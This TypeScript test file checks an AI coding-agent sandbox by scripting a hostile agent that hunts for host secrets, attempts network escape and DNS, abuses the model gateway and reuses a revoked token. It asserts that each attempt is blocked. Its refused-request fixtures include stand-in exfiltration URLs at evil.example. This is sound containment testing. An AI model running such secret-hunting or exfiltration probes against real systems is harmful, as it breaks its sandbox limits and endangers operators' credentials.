/**
 * Attacks from inside the sandbox (issue 6, items 2, 3 and 6): the real Claude Code CLI, driven
 * by a hostile script, looks for host secrets, tries to leave the sandbox network, abuses the
 * gateway with fields that would bill or fetch outside its meter, then fixes `add()` so that the
 * run ends normally. A second run reuses the first run's (now revoked) gateway token. What the
 * sandbox saw is recorded from the tool results the CLI sent back to the scripted model.
 */
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { connect, createServer, type Server } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { readFileSync } from 'node:fs';
import { fixCalculatorScript } from '../../devstack/scripts.js';
import type { RunOutcome } from '../../workflows/types.js';
import {
  assertNoSecret,
  assertRemote,
  assertSpend,
  closeRun,
  outcomeWithin,
  outsideText,
  printTableAfter,
  probeScript,
  reportsOf,
  scriptedUsd,
  secretValues,
  startAttackStack,
  stopWithin,
  submitRun,
  tableRow,
  useSharedTemporal,
  type AttackStack,
  type Probe,
} from './attackKit.js';
import { abuseNonce, egressProbe, gatewayAbuseProbe, parseAbuse, parseEgress, secretProbes, type AbuseCase, type EgressTarget } from './probes.js';

const shared = useSharedTemporal();
printTableAfter('from inside the sandbox: secrets, egress, gateway abuse');

/** Refused request shapes (issue 6, item 5), each with why. */
const REFUSED: AbuseCase[] = [
  { name: 'web_search', body: { tools: [{ type: 'web_search_20250305', name: 'web_search', max_uses: 5 }] } },
  { name: 'web_fetch', body: { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch', max_uses: 5 }] } },
  { name: 'mcp_servers', body: { mcp_servers: [{ type: 'url', url: 'https://mcp.evil.example/sse', name: 'exfil' }] } },
  { name: 'url_image', content: [{ type: 'image', source: { type: 'url', url: 'https://evil.example/x.png?d=secret' } }] },
  { name: 'premium_beta', headers: { 'anthropic-beta': 'context-1m-2025-08-07' } },
  { name: 'service_tier', body: { service_tier: 'priority' } },
];
/** A clean request: forwarded and metered (shows the refusals are about the shapes, not the token). */
const CONTROL: AbuseCase = { name: 'control' };

/** Host listeners on every interface (so on the sandbox bridge's address too): a TCP and a UDP one. */
interface HostListeners {
  tcp: Server;
  tcpPort: number;
  tcpHits: number;
  /** Remote addresses of the connections counted in tcpHits, for the failure message. */
  tcpFrom: string[];
  udp: ReturnType<typeof createSocket>;
  udpPort: number;
  udpHits: number;
  udpFrom: string[];
}

let L: HostListeners;
before(async () => {
  const l = { tcpHits: 0, udpHits: 0, tcpFrom: [], udpFrom: [] } as unknown as HostListeners;
  l.tcp = createServer((sock) => {
    l.tcpHits++;
    l.tcpFrom.push(`${sock.remoteAddress}:${sock.remotePort}`);
    sock.destroy();
  });
  await new Promise<void>((ok) => l.tcp.listen(0, '0.0.0.0', ok));
  l.tcpPort = (l.tcp.address() as { port: number }).port;
  l.udp = createSocket('udp4');
  l.udp.on('message', (_msg, from) => {
    l.udpHits++;
    l.udpFrom.push(`${from.address}:${from.port}`);
  });
  await new Promise<void>((ok) => l.udp.bind(0, '0.0.0.0', ok));
  l.udpPort = l.udp.address().port;
  L = l;
});
after(async () => {
  await new Promise<void>((ok) => L?.tcp.close(() => ok()));
  L?.udp.close();
});

/** The host's own resolver, as the worker's /etc/resolv.conf names it. */
function hostResolver(): string {
  return /^nameserver\s+(\S+)/m.exec(readFileSync('/etc/resolv.conf', 'utf8'))?.[1] ?? '8.8.8.8';
}

describe('attack: a hostile agent inside the sandbox', { timeout: 300_000 }, () => {
  let s: AttackStack | undefined;
  const seen = new Map<string, string>();
  const seen2 = new Map<string, string>();
  let run1: { workflowId: string; issueId: string; outcome: RunOutcome; token: string } | undefined;
  let gatewayIp = '';
  let gatewayPort = 0;

  before(async () => {
    s = await startAttackStack(shared, fixCalculatorScript());
    const { stack } = s;
    const gw = new URL(stack.worker.gatewayUrl);
    gatewayIp = gw.hostname;
    gatewayPort = Number(gw.port);
    // Sanity: the host listener is reachable on the bridge address from the host itself.
    await new Promise<void>((ok, fail) => {
      const sock = connect(L.tcpPort, gatewayIp, () => {
        sock.destroy();
        ok();
      });
      sock.on('error', fail);
    });
    // The server counts the sanity connection when its event loop accepts it, which under load can
    // come after the client's connect callback: wait for that count before zeroing it.
    for (const t0 = Date.now(); L.tcpHits === 0 && Date.now() - t0 < 10_000; ) await new Promise((r) => setTimeout(r, 20));
    assert.equal(L.tcpHits, 1, 'the host listener counted the sanity connection');
    L.tcpHits = 0;
    L.tcpFrom = [];
    const temporalPort = Number(/:(\d+)$/.exec(shared.temporal.connection.options.address ?? '')?.[1] ?? 7233);
    const targets: EgressTarget[] = [
      { name: 'gateway', kind: 'http', host: gatewayIp, port: gatewayPort },
      { name: 'host-listener-tcp', kind: 'tcp', host: gatewayIp, port: L.tcpPort },
      { name: 'host-listener-udp', kind: 'udp', host: gatewayIp, port: L.udpPort },
      { name: 'fake-github', kind: 'tcp', host: gatewayIp, port: Number(new URL(stack.github.url).port) },
      { name: 'webhook-receiver', kind: 'tcp', host: gatewayIp, port: Number(new URL(stack.webhooks.url).port) },
      { name: 'temporal', kind: 'tcp', host: gatewayIp, port: temporalPort },
      { name: 'host-ssh', kind: 'tcp', host: gatewayIp, port: 22 },
      { name: 'outside-1.1.1.1:443', kind: 'tcp', host: '1.1.1.1', port: 443 },
      { name: 'outside-8.8.8.8:53-udp', kind: 'udp', host: '8.8.8.8', port: 53 },
      { name: 'host-resolver-udp', kind: 'udp', host: hostResolver(), port: 53 },
      { name: 'bridge-dns-udp', kind: 'udp', host: gatewayIp, port: 53 },
      { name: 'docker-dns-udp', kind: 'udp', host: '127.0.0.11', port: 53 },
      { name: 'dns-deb.debian.org', kind: 'dns', host: 'deb.debian.org', port: 443 },
    ];
    const probes: Probe[] = [
      ...secretProbes({ stateDir: stack.config.stateDir, secrets: secretValues(stack).map(([, v]) => v) }).map((p) => ({ name: p.name, step: { bash: p.bash } })),
      { name: 'egress', step: { bash: egressProbe(targets) } },
      { name: 'gateway-abuse', step: { bash: gatewayAbuseProbe([...REFUSED, CONTROL]) } },
    ];
    stack.model!.setScript(probeScript(probes, seen, fixCalculatorScript()));
    const { workflowId, issueId } = await submitRun(stack);
    const outcome = await outcomeWithin(stack, workflowId, 200_000);
    const token = /^ANTHROPIC_API_KEY=(\S+)$/m.exec(seen.get('env') ?? '')?.[1] ?? '';
    run1 = { workflowId, issueId, outcome, token };
  });
  after(async () => {
    if (s && run1) await closeRun(s.stack, run1.workflowId).catch(() => undefined);
    await stopWithin(s);
  });

  test('run 1 still ends as a validated PR, metered, within budget, with no secret in its reports', () => {
    const { stack } = s!;
    assert.equal(run1!.outcome.kind, 'pr_opened', `${run1!.outcome.kind}: ${run1!.outcome.reason ?? ''}`);
    assertSpend(run1!.outcome.spend, { exactUsd: scriptedUsd(stack) });
    const said = outsideText(stack, run1!.workflowId, run1!.issueId);
    assertNoSecret(stack, said, 'the reports and PR', [['the run token', run1!.token]]);
    assert.deepEqual(reportsOf(stack, run1!.workflowId).map((r) => r.kind), ['pr_opened']);
  });

  test('secrets: env and PID 1 hold only the run token; no docker socket; no host dir or secret file visible', () => {
    const { stack } = s!;
    for (const name of ['env', 'proc1-environ', 'docker-socket', 'mountinfo', 'host-dirs', 'grep-secrets']) {
      const out = seen.get(name);
      assert.ok(out !== undefined, `the probe ${name} ran`);
      assertNoSecret(stack, out, `the sandbox's ${name}`);
    }
    const env = seen.get('env')!;
    assert.match(run1!.token, /^nsr_[A-Za-z0-9_-]{20,}$/, 'the only credential is the gateway run token');
    const credentialish = env.split('\n').filter((l) => /^[A-Z0-9_]*(TOKEN|KEY|SECRET|PASSWORD|CREDENTIAL)[A-Z0-9_]*=/.test(l)).map((l) => l.split('=')[0]);
    assert.deepEqual(credentialish, ['ANTHROPIC_API_KEY'], `credential-like variables: ${credentialish.join(', ')}`);
    assert.match(seen.get('proc1-environ')!, /ANTHROPIC_API_KEY=nsr_/);
    assert.match(seen.get('docker-socket')!, /No such file or directory[\s\S]*No such file or directory/);
    // mountinfo fields: id parent dev root mountpoint …; host binds show the host path as root.
    const mounts = seen.get('mountinfo')!.split('\n').map((l) => l.split(' ')).filter((f) => f.length > 5).map((f) => ({ root: f[3]!, at: f[4]! }));
    assert.ok(!mounts.some((x) => /docker\.sock/.test(x.root + x.at)), 'no docker socket mounted');
    const fromState = mounts.filter((x) => x.root.startsWith(stack.config.stateDir));
    assert.equal(fromState.length, 1, `host state mounted: ${JSON.stringify(fromState)}`);
    assert.equal(fromState[0]!.at, '/workspace', 'only the run’s work tree, at /workspace');
    assert.match(fromState[0]!.root, /\/workspaces\/linear-[0-9a-f-]+$/);
    // Besides it, only Docker's own per-container files (resolv.conf, hostname, hosts).
    const otherBinds = mounts.filter((x) => x.root.startsWith('/') && x.root !== '/' && !x.root.startsWith(stack.config.stateDir) && !/^\/(docker|null|bus|fs|irq|sys)\b/.test(x.root) && !x.at.startsWith('/sys') && !x.at.startsWith('/proc'));
    assert.ok(otherBinds.every((x) => /^\/var\/lib\/docker\/containers\/[0-9a-f]+\/(resolv\.conf|hostname|hosts)$/.test(x.root)), `other host binds: ${JSON.stringify(otherBinds)}`);
    assert.ok(seen.get('host-dirs')!.includes(`cannot access '${stack.config.stateDir}': No such file or directory`), 'the host state dir is not visible');
    assert.match(seen.get('host-dirs')!, /^uid=1000\(agent\)/, 'the agent is not root');
    assert.match(seen.get('grep-secrets')!, /^GREP_DONE$/m);
    assert.doesNotMatch(seen.get('grep-secrets')!.replace(/GREP_DONE/, ''), /\//, 'no file in the sandbox holds a secret value');
    tableRow('`env`, `/proc/1/environ` in the sandbox', 'only ANTHROPIC_API_KEY = the run\'s gateway token (nsr_…); no GitHub/Linear/webhook secret');
    tableRow('docker socket (/var/run, /run)', 'absent');
    tableRow('`/proc/self/mountinfo`, host state/config dirs, grep for secret values', 'only /workspace mounted; state dir invisible; no file holds a secret');
  });

  test('egress: only the gateway answers; host ports, outside addresses and DNS fail', () => {
    const r = parseEgress(seen.get('egress') ?? '');
    assert.ok(r.size >= 13, `egress results: ${seen.get('egress')}`);
    assert.match(r.get('gateway') ?? '', /^OPEN http 200 nightshift model gateway/, `the gateway answers: ${seen.get('egress')}`);
    for (const [name, res] of r) if (name !== 'gateway') assert.match(res, /^BLOCKED/, `${name}: ${res}`);
    assert.equal(L.tcpHits, 0, `the host TCP listener saw no connection (from ${L.tcpFrom.join(', ')}; gateway ${gatewayIp})`);
    assert.equal(L.udpHits, 0, `the host UDP listener saw no datagram (from ${L.udpFrom.join(', ')})`);
    tableRow('TCP to host ports other than the gateway (a 0.0.0.0 listener, fake GitHub, webhook receiver, Temporal, ssh)', 'blocked (iptables NIGHTSHIFT-SBX); listener saw 0 connections');
    tableRow('UDP to a host listener, to the host resolver, bridge :53, 127.0.0.11, 8.8.8.8', 'no reply; listener saw 0 datagrams');
    tableRow('TCP to 1.1.1.1:443; DNS of deb.debian.org', 'blocked / no resolution (internal network, no DNS)');
    tableRow('the gateway itself', 'answers (HTTP 200)');
  });

  test('gateway abuse: each refused shape gets 400 and never reaches the upstream; a clean request is metered', () => {
    const { stack } = s!;
    const r = parseAbuse(seen.get('gateway-abuse') ?? '');
    const upstream = JSON.stringify(stack.model!.requests.map((q) => q.body));
    for (const c of REFUSED) {
      assert.equal(r.get(c.name), 400, `${c.name}: ${seen.get('gateway-abuse')}`);
      // The nonce is also in the tool result the CLI sent back later; only a request whose own prompt is the nonce counts.
      const arrived = stack.model!.requests.some((q) => JSON.stringify((q.body as { messages?: unknown[] })?.messages?.[0] ?? '').includes(abuseNonce(c.name)));
      assert.equal(arrived, false, `${c.name} reached the upstream`);
      tableRow(`gateway: ${c.name}`, 'HTTP 400 (API-shaped error); never forwarded upstream; not charged');
    }
    assert.equal(r.get('control'), 200, 'a clean request with the run token is forwarded');
    assert.ok(upstream.includes(abuseNonce('control')), 'the clean request reached the upstream');
  });

  test('token reuse: run 1\'s token is refused from the host after the run and from inside run 2; run 2 pays only its own', async () => {
    const { stack } = s!;
    const fromHost = await fetch(`${stack.worker.gatewayUrl}/v1/messages`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-api-key': run1!.token, 'anthropic-version': '2023-06-01' },
      body: JSON.stringify({ model: 'claude-sonnet-4-5', max_tokens: 16, messages: [{ role: 'user', content: 'reuse' }] }),
    });
    assert.equal(fromHost.status, 401, 'the ended run’s token is revoked');
    const usdBefore = scriptedUsd(stack);
    stack.model!.setScript(probeScript([{ name: 'reuse', step: { bash: gatewayAbuseProbe([{ name: 'reuse_run1_token' }], run1!.token) } }], seen2, fixCalculatorScript()));
    const { workflowId, issueId } = await submitRun(stack, 'CALC-8');
    const outcome2 = await outcomeWithin(stack, workflowId, 150_000);
    try {
      assert.equal(parseAbuse(seen2.get('reuse') ?? '').get('reuse_run1_token'), 401, seen2.get('reuse'));
      assert.equal(outcome2.kind, 'pr_opened', `${outcome2.kind}: ${outcome2.reason ?? ''}`);
      assertSpend(outcome2.spend, { exactUsd: scriptedUsd(stack) - usdBefore });
      assert.ok(!stack.model!.requests.some((q) => JSON.stringify(q.body).includes(`"${abuseNonce('reuse_run1_token')}"`) && (q.body as { tools?: unknown }).tools === undefined), 'the reused-token request never reached the upstream');
      assertNoSecret(stack, outsideText(stack, workflowId, issueId), 'run 2’s reports', [['run 1 token', run1!.token]]);
      await assertRemote(s!, [/^refs\/heads\/nightshift\/calc-7-/, /^refs\/heads\/nightshift\/calc-8-/]);
      tableRow('a run\'s gateway token after its run ended (from the host)', 'HTTP 401');
      tableRow('another run\'s token used inside a run', 'HTTP 401; the run is charged only its own requests');
    } finally {
      await closeRun(stack, workflowId).catch(() => undefined);
    }
  });
});
